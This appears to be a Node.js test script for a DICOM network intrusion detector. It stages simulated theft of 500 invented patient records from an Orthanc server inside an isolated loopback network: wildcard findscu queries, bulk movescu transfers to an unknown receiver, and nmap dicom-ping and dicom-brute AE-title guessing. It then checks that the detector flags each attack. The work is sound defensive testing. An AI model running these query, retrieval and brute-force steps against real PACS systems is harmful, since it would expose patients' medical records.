// npm run theft: Orthanc is filled with 500 invented patients; somebody asks it for all of them with wildcards (DCMTK's
// findscu), has every study sent to himself (movescu), and tries it with nmap's dicom scripts. It happens at a loopback
// of its own, tcpdump records it, and the built program must find it with the right counts. Needs root, and a minute or
// two: the short form is pcaps/theft.pcap.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { closeSync, mkdirSync, mkdtempSync, openSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import { fileURLToPath } from 'node:url';

const patients = 500;
const server = '10.20.30.20';
const thief = '10.20.30.66';
const self = fileURLToPath(import.meta.url);
/** What must be found. */
const casesOf = ['bulk-query', 'bulk-retrieval', 'move-destination-unknown', 'ae-guessing', 'scanner-fingerprint'];

// A network of its own ends with what runs in it.
if (process.argv[2] !== 'inside') {
  const { status } = spawnSync('unshare', ['--net', process.execPath, self, 'inside'], { stdio: 'inherit' });
  process.exit(status ?? 1);
}

const folder = mkdtempSync(join(tmpdir(), 'dicomtap-theft-'));
const at = (...names) => join(folder, ...names);
const running = [];
const begun = performance.now();

try {
  makeNetwork();
  writeObjects();
  writeFileSync(at('orthanc.json'), JSON.stringify(orthanc()));
  start('Orthanc', at('orthanc.json'));
  await answering(server, 4242);
  run('storescu', '-aet', 'FILLER', '-aec', 'ORTHANC', '+sd', server, '4242', at('objects'));
  say(`filled with ${patients} patients`);
  start('storescp', '--ignore', '-aet', 'STRANGER', '11112');
  await answering(thief, 11112);
  const recorder = await record();
  steal();
  say('stolen');
  scan();
  say('scanned');
  await pause(3000);
  recorder.kill('SIGINT');
  await new Promise((resume) => recorder.once('exit', resume));
  judge();
} finally {
  for (const child of running) child.kill('SIGTERM');
  rmSync(folder, { recursive: true, force: true });
}

/** One host with two addresses: who talks to one of them does so from the other. */
function makeNetwork() {
  run('ip', 'link', 'set', 'lo', 'up');
  const ends = [
    [server, thief],
    [thief, server],
  ];
  for (const [to] of ends) run('ip', 'address', 'add', `${to}/32`, 'dev', 'lo');
  for (const [to, from] of ends) run('ip', 'route', 'replace', 'local', to, 'dev', 'lo', 'table', 'local', 'src', from);
}

/** One object of one study of each patient; all are the first but for five digits. */
function writeObjects() {
  const elements = [
    '(0008,0016) UI [1.2.840.10008.5.1.4.1.1.7]',
    '(0008,0018) UI [2.25.8877777.1.1]',
    '(0010,0010) PN [Vielfach^Nummer77777]',
    '(0010,0020) LO [MASSE-77777]',
    '(0020,000d) UI [2.25.8877777]',
    '(0020,000e) UI [2.25.8877777.1]',
  ];
  writeFileSync(at('dump'), `${elements.join('\n')}\n`);
  run('dump2dcm', '-q', '+te', at('dump'), at('first.dcm'));
  const first = readFileSync(at('first.dcm')).toString('latin1');
  mkdirSync(at('objects'));
  for (let i = 0; i < patients; i++) {
    writeFileSync(at('objects', `${i}.dcm`), Buffer.from(first.replaceAll('77777', String(10_001 + i)), 'latin1'));
  }
}

function orthanc() {
  return {
    Name: 'INVENTED',
    StorageDirectory: at('storage'),
    IndexDirectory: at('storage'),
    HttpServerEnabled: false,
    DicomServerEnabled: true,
    DicomAet: 'ORTHANC',
    DicomPort: 4242,
    DicomCheckCalledAet: true,
    DicomAlwaysAllowStore: true,
    DicomAlwaysAllowFind: true,
    DicomAlwaysAllowMove: true,
    DicomModalities: { thief: ['STRANGER', thief, 11112] },
  };
}

async function record() {
  const child = spawn('tcpdump', [
    '-n',
    '-i',
    'lo',
    '--immediate-mode',
    '-U',
    '-B',
    '65536',
    '-w',
    at('theft.pcap'),
    'tcp',
  ]);
  await new Promise((resume) => child.stderr.once('data', resume));
  await until(() => statSync(at('theft.pcap'), { throwIfNoEntry: false }) !== undefined);
  running.push(child);
  return child;
}

function steal() {
  const titles = ['-S', '-aet', 'STRANGER', '-aec', 'ORTHANC'];
  const keys = ['0008,0052=STUDY', '0010,0010=*', '0010,0020=*', '0020,000D'].flatMap((key) => ['-k', key]);
  const answers = run('findscu', ...titles, ...keys, server, '4242');
  const studies = [...new Set(answers.match(/2\.25\.88\d{5}/g))];
  if (studies.length !== patients) throw new Error(`findscu tells of ${studies.length} studies`);
  for (let i = 0; i < studies.length; i += 100) {
    const some = `0020,000D=${studies.slice(i, i + 100).join('\\')}`;
    run('movescu', ...titles, '-aem', 'STRANGER', '-k', '0008,0052=STUDY', '-k', some, server, '4242');
  }
}

/** Through the sockets of the system, for raw ones would come from the wrong address. */
function scan() {
  const titles = 'PACS DICOM ARCHIVE STORE SERVER MAIN RIS CT MR TEST IMAGES XRAY BACKUP ORTHANC';
  writeFileSync(at('titles'), `${titles.split(' ').join('\n')}\n`);
  run('nmap', '-n', '-Pn', '-sT', '-p', '4242', '--script', 'dicom-ping', server);
  const how = `passdb=${at('titles')},brute.threads=1`;
  run('nmap', '-n', '-Pn', '-sT', '-p', '4242', '--script', 'dicom-brute', '--script-args', how, server);
}

function judge() {
  const policy = `version: 1
networks: { internal: [10.20.0.0/16] }
ae_titles: [{ title: ORTHANC, addresses: [${server}], ports: [4242] }]
`;
  writeFileSync(at('site.yaml'), policy);
  writeFileSync(at('hash.key'), '11'.repeat(32), { mode: 0o600 });
  const cli = fileURLToPath(new URL('../dist/cli.js', import.meta.url));
  const dicomtap = (...words) => run(process.execPath, cli, ...words, '--db', at('theft.db'));
  const words = ['--policy', at('site.yaml'), '--hash-key', at('hash.key'), '--json'];
  const { totals, losses } = JSON.parse(dicomtap('replay', at('theft.pcap'), ...words));
  const lines = dicomtap('findings', '--json', '--limit', '100000').trim().split('\n');
  const found = lines.map((line) => JSON.parse(line));
  console.log(
    `${totals.packets} packets, ${totals.associations} associations; losses and marks (loopback leaves checksums out): ${JSON.stringify(losses)}\n`,
  );
  const told = new Set();
  for (const { severity, detection, summary } of found) {
    if (told.has(summary) || !casesOf.includes(detection)) continue;
    told.add(summary);
    console.log(`${severity} ${detection}\n  ${summary}\n`);
  }
  const expected = [
    ['bulk-query', { patients, unrestricted: patients }],
    ['bulk-retrieval', { patients, receiver: thief }],
    ['move-destination-unknown', { objects: patients, destination: 'STRANGER' }],
    ['ae-guessing', { accepted: true }],
    ['scanner-fingerprint', { tool: 'nmap' }],
  ];
  const wrong = expected.filter(([slug, numbers]) => {
    const all = found.filter(({ detection }) => detection === slug);
    const as = ({ evidence }) => Object.entries(numbers).every(([name, value]) => evidence[name] === value);
    return !all.some(as);
  });
  for (const [slug, numbers] of wrong) console.log(`missing: ${slug} ${JSON.stringify(numbers)}`);
  console.log(wrong.length === 0 ? 'all of it found, with the right counts' : 'FAILED');
  process.exitCode = wrong.length === 0 ? 0 : 1;
}

function run(program, ...words) {
  return execFileSync('sh', ['-c', 'exec "$0" "$@" 2>&1', program, ...words], {
    encoding: 'utf8',
    maxBuffer: 64 << 20,
    timeout: 300_000,
  });
}

function start(program, ...words) {
  const log = openSync(at(`${program}.log`), 'w');
  running.push(spawn(program, words, { stdio: ['ignore', log, log], cwd: folder }));
  closeSync(log);
}

async function answering(address, port) {
  await until(
    () => spawnSync('echoscu', ['-aec', port === 4242 ? 'ORTHANC' : 'STRANGER', address, `${port}`]).status === 0,
  );
}

async function until(condition) {
  for (let tries = 0; !condition(); tries++) {
    if (tries === 300) throw new Error('waited for half a minute in vain');
    await pause(100);
  }
}

function say(what) {
  console.log(`${((performance.now() - begun) / 1000).toFixed(0)} s: ${what}`);
}
